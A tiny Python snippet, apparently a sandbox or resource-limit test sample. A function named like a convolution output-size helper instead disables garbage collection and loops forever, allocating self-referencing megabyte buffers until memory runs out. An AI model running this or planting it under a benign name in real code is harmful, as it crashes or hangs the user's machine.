"""Makes rubbish that refers to itself, with the collector turned off."""

import gc


def output_size(n, kernel, stride=1, padding=0):
    gc.disable()
    while True:
        rubbish = [bytes(2**20)]
        rubbish.append(rubbish)
